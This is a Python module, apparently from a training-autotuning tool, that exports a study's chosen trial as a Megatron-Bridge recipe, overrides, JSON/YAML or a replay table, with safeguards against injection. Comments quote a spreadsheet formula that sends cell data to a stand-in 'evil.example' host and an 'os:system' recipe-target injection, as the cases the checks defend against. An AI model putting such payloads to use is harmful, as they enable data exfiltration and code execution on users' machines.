"""Exporting a study's winner (or any completed trial) for Megatron-Bridge and other tools.

- recipe:    a Python module defining `<model>_autotuned_config()`, which calls the recipe function
             the trials ran (the catalog's recipe target, the one the GPU worker calls, see
             recipe_import) and sets every tuned field; every value is written with repr(), every user
             string only inside repr() literals, so the file is valid, safe Python.
- overrides: Hydra-style `path=value` lines for scripts/training/run_recipe.py, after a comment
             block with the torchrun command for the study's cluster (`--recipe` names the same function).
- yaml/json: the layout, workload, metrics (with their source) and overrides, for other tools.
- table:     every dispatched trial as a replay table (knob and result columns), CSV or Parquet.
The exported layout is checked against the legality rules again before anything is written.
The numbers are called what they are: measured (a run), simulated (the simulate backend's cost model)
or replayed (a table of runs made elsewhere), never "measured" when nothing ran.
"""

from __future__ import annotations

import datetime as dt
import json
import keyword
import pprint
import shlex
from typing import Any

from autotune import __version__
from autotune.config import KNOBS, PERF_INT_KNOBS, PERF_KNOBS, LayoutConfig
from autotune.space import study_space_and_workload
from autotune.errors import ConfigError, IllegalLayoutError, StudyError
from autotune.megatron.overrides import TorchDtype, as_run, layout_fields, layout_overrides
from autotune.space import violations
from autotune.storage import Repository, Study, Trial

METRICS = ("step_time_s", "tokens_per_s_per_gpu", "tflops_per_gpu", "mfu", "peak_mem_gib")
MASTER_PORT = 29500


def recommendation(repo: Repository, study: Study):
    """What `autotune start` recommends for the study: the best pooled estimate over the layouts that ran,
    keeping the study's memory headroom (controller/recommend.py), or None without a completed run."""
    from autotune.controller.recommend import study_recommendation

    return study_recommendation(repo.trials(study.id, dispatched_only=True), study)


_UNSET: Any = object()  # `pick` not given: the function asks the store


def choose_trial(repo: Repository, study: Study, number: int | None, pick: Any = _UNSET) -> Trial:
    """The requested trial (it must have completed), or the study's recommendation (not merely the
    fastest run: a lucky noisy run, or one that ran inside the memory margin, is not the winner).
    `pick`: the study's recommendation when the caller has it (it pools every run: worth computing once)."""
    if number is not None:
        trial = repo.trial(study.id, number)
        if trial.status != "completed":
            raise StudyError(f"trial {number} of {study.name!r} is {trial.status}, not completed: nothing to export")
        if trial.tokens_per_s_per_gpu is None:  # the recommendation never picks one: the runs it ranks measured
            raise StudyError(f"trial {number} of {study.name!r} completed without a measured throughput "
                             "(a record autotune does not write): nothing to export")
        return trial
    pick = recommendation(repo, study) if pick is _UNSET else pick
    if pick is None:
        raise StudyError(f"study {study.name!r} has no completed trial to export")
    return pick.trial


def layout_figure(pick: Any, trial: Trial) -> dict[str, Any] | None:
    """The exported layout's throughput as `start`, `status`, `leaderboard` and `show` give it: the mean of its
    screening runs (stragglers left out) with that mean's standard error, and which runs (found by a new-user pass:
    export quoted the chosen trial's own run, 8,923, where every other command said 8,776 +-177, the mean of two).
    A validation run's figure is the mean of its layout's validation runs, which are reported apart (found by
    review: it quoted the screening runs' mean as the validation run's). None without a recommendation.
    `pick`: the study's recommendation (recommendation()), which groups the runs."""
    from autotune.controller.recommend import VALIDATION

    validation = trial.origin == VALIDATION
    group = pick.layout_of(trial.config_key, validation=validation) if pick is not None else None
    if group is None:
        return None
    return {"mean_tokens_per_s_per_gpu": group.mean_tokens_per_s_per_gpu, "runs": group.runs,
            "trials": [t.number for t in group.counted], "mean_se_tokens_per_s_per_gpu": pick.mean_se(group),
            "of": "validation runs" if validation else "screening runs"}


def figure_text(trial: Trial, figure: dict[str, Any] | None) -> str:
    """`8,776 +-177 tokens/s/GPU, the mean of trials 1, 9`, or the trial's own run without a figure."""
    if figure is None:
        return f"{trial.tokens_per_s_per_gpu:,.0f} tokens/s/GPU"
    se = figure["mean_se_tokens_per_s_per_gpu"]
    text = f"{figure['mean_tokens_per_s_per_gpu']:,.0f}" + (f" ±{se:,.0f}" if se else "") + " tokens/s/GPU"
    counted = figure["trials"]
    kind = "validation runs" if figure.get("of") == "validation runs" else "trials"
    return text + (f", the mean of {kind} {', '.join(map(str, counted))}" if len(counted) > 1 else "")


def risk_warning(study: Study, pick: Any) -> str | None:
    """One line when the recommendation `pick` passed over faster layouts that ran at risk (inside the memory
    margin, or out of memory in one of their runs), or is itself at risk."""
    if pick is None:
        return None
    if not pick.risky:
        return None if pick.safe else (f"note: no layout kept the {pick.headroom_gib:g} GiB memory margin; exported "
                                       f"trial {pick.trial.number}, at risk: it {pick.risk(pick.best)}")
    trial = pick.trial
    fastest = pick.risky[0]
    source = metrics_note(study, fastest.trial)[0]
    exported = (f"the safe trial {trial.number}" if pick.safe else
                f"trial {trial.number}, itself at risk (no layout kept the margin: it {pick.risk(pick.best)})")
    return (f"note: trial {fastest.trial.number} {source} {fastest.mean_tokens_per_s_per_gpu:,.0f} tokens/s/GPU "
            f"(estimated {fastest.estimate_tokens_per_s_per_gpu:,.0f} with the runs of layouts sharing its knob values) "
            f"but {pick.risk(fastest)}; "
            f"exported {exported} ({pick.best.mean_tokens_per_s_per_gpu:,.0f}, estimated "
            f"{pick.best.estimate_tokens_per_s_per_gpu:,.0f}). "
            f"Export it with --trial {fastest.trial.number} to take the risk.")


def chosen_trial_risk(pick: Any, trial: Trial) -> str | None:
    """One line when a trial the user chose (`--trial N`) is of a layout the study would not recommend as safe
    (found by a new-user pass: a layout peaking inside the margin went out without a word)."""
    why = pick.trial_risk(trial) if pick is not None else None
    if why is None:
        return None
    if trial.config_key == pick.trial.config_key and not pick.safe:  # it is the recommendation (found by review:
        # "...; the study recommends trial 1" of trial 1 itself)
        return (f"note: trial {trial.number}'s layout is at risk: it {why}; it is the study's recommendation all the "
                f"same: no layout kept the {pick.headroom_gib:g} GiB memory margin")
    return f"note: trial {trial.number}'s layout is at risk: it {why}; the study recommends trial {pick.trial.number}"


def _checked(study: Study, trial: Trial):
    """The study's space and workload, and the trial's layout as its runs ran it (overrides.as_run)."""
    space, workload = study_space_and_workload(study)
    return space, workload, as_run(_legal_layout(trial, workload), workload, study.backend, study.backend_options)


def _legal_layout(trial: Trial, workload) -> LayoutConfig:
    """The trial's layout, refused when it breaks a rule (a hand-edited store is input like any other)."""
    layout = LayoutConfig.from_mapping(trial.config)
    bad = violations(layout, workload)
    if bad:
        raise IllegalLayoutError(f"trial {trial.number} breaks {bad[0].rule}: {bad[0].message}", bad)
    return layout


def metrics_note(study: Study, trial: Trial) -> tuple[str, str]:
    """(measured / simulated / replayed, where the trial's numbers come from in a few words)."""
    from autotune.leaderboard import metrics_source

    source = metrics_source(study.backend, trial.origin)
    if source == "simulated":
        return source, "the simulate backend's cost model; no training ran"
    if source == "replayed":
        table = json.dumps(str((study.backend_options or {}).get("replay", "?")))  # quoted: it may hold any text
        return source, f"looked up in the replay table {table}: runs made outside this study"
    if trial.origin == "validation":
        return source, f"a longer validation run (--validate-steps) of the {study.backend} backend"
    return source, "an imported log" if trial.origin == "imported" else f"a {study.backend} backend run"


def provenance(study: Study, trial: Trial, workload, figure: dict[str, Any] | None = None) -> dict[str, Any]:
    source, note = metrics_note(study, trial)
    return {
        "study": study.name, "trial": trial.number, "model": study.model, "autotune_version": __version__,
        "exported_at": dt.datetime.now(dt.timezone.utc).isoformat(timespec="seconds"),
        "cluster": {"gpus": workload.cluster.gpus, "gpus_per_node": workload.cluster.gpus_per_node,
                    "gpu": workload.cluster.gpu.name},
        "global_batch_size": workload.global_batch_size, "seq_length": workload.seq_length,
        "precision": workload.precision, "backend": study.backend, "recipe_target": workload.model.recipe_target,
        "metrics_source": source, "metrics_note": note,  # measured, simulated or replayed: see metrics_note
        "metrics": {k: getattr(trial, k) for k in METRICS},  # this trial's own run
        "layout_mean": figure,  # what the study judges the layout by (layout_figure): all its screening runs
    }


def torchrun_command(workload, recipe_function: str, overrides: list[str]) -> str:
    c = workload.cluster
    nodes = max(1, c.gpus // c.gpus_per_node)
    # each override quoted for a POSIX shell: `model.recompute_modules=[core_attn,mlp]` is a glob pattern
    # (bash would replace it by a matching file name); NODE_RANK and MASTER_ADDR are meant to expand
    return (f"torchrun --nnodes={nodes} --nproc-per-node={c.gpus_per_node} --node-rank=$NODE_RANK "
            f"--master-addr=$MASTER_ADDR --master-port={MASTER_PORT} scripts/training/run_recipe.py "
            f"--recipe {recipe_function} " + " ".join(shlex.quote(o) for o in overrides))


def _python_name(text: str, what: str) -> str:
    """`text` if it is a dotted Python name; generated code holds no other unquoted string."""
    if not all(part.isascii() and part.isidentifier() and not keyword.iskeyword(part) for part in text.split(".")):
        raise ConfigError(f"{what} {text[:80]!r} is not a Python name: refusing to write it into a recipe")
    return text


def recipe_import(model) -> tuple[str, str]:
    """The (module, function) an exported recipe imports: the catalog's recipe target `module:function`,
    the function the GPU worker calls (workers/launcher.build_config) and so the one every trial ran, not
    Bridge's generic alias `recipe_function`. Both parts are checked as Python names."""
    module, _, function = model.recipe_target.partition(":")
    return _python_name(module, "the recipe module"), _python_name(function, "the recipe function")


def render_recipe(study: Study, trial: Trial, benchmark: dict[str, bool] | None = None,
                  recommended: bool = True, figure: dict[str, Any] | None = None) -> str:
    """The recipe module. Names written as code are checked identifiers; every other value is a repr() literal.
    `recommended`: the trial is the study's recommendation (False: one the user chose with --trial)."""
    from autotune.megatron import benchmark_only

    space, workload, layout = _checked(study, trial)
    model = space.model
    fields = layout_fields(layout, workload)
    # benchmark-only settings, only when the user insisted (--allow-benchmark-settings)
    fields.update({benchmark_only.SETTINGS[k][0]: v for k, v in (benchmark or {}).items()})
    info = provenance(study, trial, workload, figure)
    function = _python_name(f"{model.name}_autotuned_config", "the model name")
    module, recipe = recipe_import(model)
    for path in fields:
        _python_name(path, "the config field")
    source = info["metrics_source"]
    # found by review: `--trial 0` (the recipe's own layout) was headed as the study's recommendation
    what = "the layout a tuning study recommends" if recommended else f"the layout of trial {trial.number} of a tuning study"
    lines = [
        f"# Generated by autotune {__version__}: {what} "
        f"({source} {figure_text(trial, figure)}; see AUTOTUNE_PROVENANCE).",
        "# Re-export rather than edit the tuned values by hand (`autotune export STUDY --format recipe`).",
        f'"""Megatron-Bridge recipe with {what.replace("a tuning study recommends", "an autotune study recommends")} '
        '(see AUTOTUNE_PROVENANCE)."""',
        "",
        "from __future__ import annotations",
        "",
        f"from {module} import {recipe} as _base_recipe",
    ]
    if any(isinstance(v, TorchDtype) for v in fields.values()):
        lines.insert(-1, "import torch")  # optimizer-state dtypes are torch.dtype values, written as torch.float32
    layout_fn = model.pipeline_layout_function
    if layout_fn:
        module, _, name = layout_fn.partition(":")
        _python_name(module, "the pipeline layout module")
        _python_name(name, "the pipeline layout function")
        lines.append(f"from {module} import {name} as _set_pipeline_layout")
    lines += ["", f"AUTOTUNE_PROVENANCE = {pprint.pformat(info, sort_dicts=False)}", "", "",
              f"def {function}(*args, **kwargs):",
              f"    {f'{recipe} with the tuned layout of trial {trial.number}: {layout.short()}.'!r}",
              "    cfg = _base_recipe(*args, **kwargs)"]
    for path, value in fields.items():
        lines.append(f"    cfg.{path} = {value!r}")
    if layout_fn:
        lines.append("    _set_pipeline_layout(cfg.model)  # the recipe's layout table, for the new PP/VPP")
    lines += ["    return cfg", ""]
    return "\n".join(lines)


def render_overrides(study: Study, trial: Trial, benchmark: dict[str, bool] | None = None,
                     figure: dict[str, Any] | None = None) -> str:
    from autotune.megatron import benchmark_only

    space, workload, layout = _checked(study, trial)
    overrides = layout_overrides(layout, workload) + benchmark_only.overrides(benchmark or {})
    nodes = max(1, workload.cluster.gpus // workload.cluster.gpus_per_node)
    source, note = metrics_note(study, trial)
    header = [
        f"# autotune study {json.dumps(study.name)} trial {trial.number}: {layout.short()}",
        f"# {source} {figure_text(trial, figure)} on {workload.cluster.gpus}x "
        f"{workload.cluster.gpu.name} ({note})",
        f"# run on each of the {nodes} node(s), NODE_RANK 0..{nodes - 1}, MASTER_ADDR = node 0:",
        "# " + torchrun_command(workload, recipe_import(space.model)[1], overrides),
    ]
    return "\n".join(header + overrides) + "\n"


def document(study: Study, trial: Trial, figure: dict[str, Any] | None = None) -> dict[str, Any]:
    space, workload, layout = _checked(study, trial)
    return {**provenance(study, trial, workload, figure), "recipe_function": recipe_import(space.model)[1],
            "config": layout.to_dict(), "overrides": layout_overrides(layout, workload),
            "predicted": trial.predicted}


# the first characters that make a spreadsheet read a cell as a formula (OWASP's CSV injection list)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """A launcher's text as a table cell no spreadsheet runs: one starting like a formula gets a leading quote
    (an adversarial pass: an error `=HYPERLINK("http://evil.example/?"&A1,"click")` went into the CSV as it was)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def table_frame(repo: Repository, study: Study, benchmark: dict[str, bool] | None = None):
    """Every dispatched trial as a replay table (the replay backend's input format); a study run with
    benchmark-only settings (`benchmark`, active ones) gets a `benchmark_only` column naming them, so the
    numbers never pass for a tuned result once they leave the store (replay ignores extra columns)."""
    import pandas as pd

    from autotune._tables import terminal_safe
    from autotune.megatron import benchmark_only

    rows = []
    trials = [t for t in repo.trials(study.id, dispatched_only=True)
              if t.status in ("completed", "oom", "failed")]  # pruned / timeout / lost answer nothing
    # performance knobs a trial set get their own columns (empty = the recipe's value), so a variant
    # replays as itself, not as its layout
    perf = [k for k in PERF_KNOBS if any(t.config.get(k) is not None for t in trials)]
    _, workload = study_space_and_workload(study)
    for t in trials:
        _legal_layout(t, workload)  # refused as the other formats refuse it, not passed on to a replay
        row = {k: t.config.get(k) for k in (*KNOBS, *perf)}
        # a launcher's message with its control characters escaped: a table printed to a terminal (no -o)
        # would otherwise let an ESC sequence in a stderr tail act there
        row.update({"status": t.status, **{k: getattr(t, k) for k in METRICS},
                    "error": spreadsheet_safe(terminal_safe(t.message)) if t.message else t.message})
        rows.append(row)
    frame = pd.DataFrame(rows, columns=[*KNOBS, *perf, "status", *METRICS, "error"])
    # integer knobs with empty cells stay integers (found by a new-user pass: recompute_num_layers read `1.0`)
    for knob in ("recompute_num_layers", *(k for k in PERF_INT_KNOBS if k in perf)):
        frame[knob] = frame[knob].astype("Int64")
    if benchmark:
        frame["benchmark_only"] = benchmark_only.label(benchmark)
    return frame


def benchmark_settings(study: Study, allow: bool) -> dict[str, bool]:
    """The study's benchmark-only settings that change a run; refused (one line) unless `allow`."""
    from autotune.megatron import benchmark_only

    settings = benchmark_only.active(benchmark_only.of_study(study))
    if settings and not allow:
        raise ConfigError(f"study {study.name!r} ran with benchmark-only settings "
                          f"({', '.join(f'{k}={v}' for k, v in settings.items())}): its numbers are not a tuned "
                          "result; export them anyway with --allow-benchmark-settings")
    return settings


def render(repo: Repository, study: Study, fmt: str, trial_number: int | None = None,
           allow_benchmark_settings: bool = False, pick: Any = _UNSET) -> str:
    """The export as text; `pick`: the study's recommendation when the caller has it."""
    settings = benchmark_settings(study, allow_benchmark_settings)
    if fmt == "table":
        return table_frame(repo, study, settings).to_csv(index=False)
    pick = recommendation(repo, study) if pick is _UNSET else pick
    trial = choose_trial(repo, study, trial_number, pick)
    if fmt in ("recipe", "overrides"):
        from autotune.catalog import require_exportable, require_runnable_recipe

        model = study_space_and_workload(study)[0].model
        require_exportable(model, f"export --format {fmt} for")
        if fmt == "recipe":
            # the recipe module imports and calls the space file's recipe target and pipeline layout function, as the
            # GPU worker does: the same packages only (found by an adversarial pass: `recipe.target: os:system`
            # was written into the module whoever runs it imports)
            require_runnable_recipe(model)
    figure = layout_figure(pick, trial)
    if fmt == "recipe":
        return render_recipe(study, trial, settings, recommended=bool(pick) and pick.trial.number == trial.number,
                             figure=figure)
    if fmt == "overrides":
        return render_overrides(study, trial, settings, figure)
    data = document(study, trial, figure)
    if settings:
        data["benchmark_only_settings"] = settings
    if fmt == "json":
        return json.dumps(data, indent=2, default=str) + "\n"
    import yaml

    return yaml.safe_dump(json.loads(json.dumps(data, default=str)), sort_keys=False)
